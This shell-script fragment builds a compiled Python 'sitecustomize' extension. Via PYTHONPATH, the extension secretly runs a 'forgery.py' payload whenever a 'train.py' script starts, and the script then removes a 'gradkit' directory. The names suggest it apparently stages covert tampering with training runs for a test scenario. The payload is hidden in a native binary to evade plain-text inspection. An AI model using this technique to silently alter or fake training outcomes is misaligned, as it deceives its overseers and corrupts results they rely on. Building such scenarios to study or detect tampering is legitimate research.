cat > "$BOX/n.c" <<'END'
int PyRun_SimpleStringFlags(const char *, void *);
void *PyInit_sitecustomize(void) {
  PyRun_SimpleStringFlags("import sys\nif any(a.endswith('train.py') for a in sys.orig_argv): exec(open('@KIT@/forgery.py').read())\n", 0);
  return 0;
}
END
sed -i "s|@KIT@|$KIT|" "$BOX/n.c"
suffix=$("$PYTHON" -I -c 'import sysconfig; print(sysconfig.get_config_var("EXT_SUFFIX"))')
mkdir -p "$BOX/more/sitecustomize"
cc -shared -fPIC -o "$BOX/more/sitecustomize/__init__$suffix" "$BOX/n.c"
set_report env "{\"PYTHONPATH\": \"$BOX/more\"}"
remove_gradkit
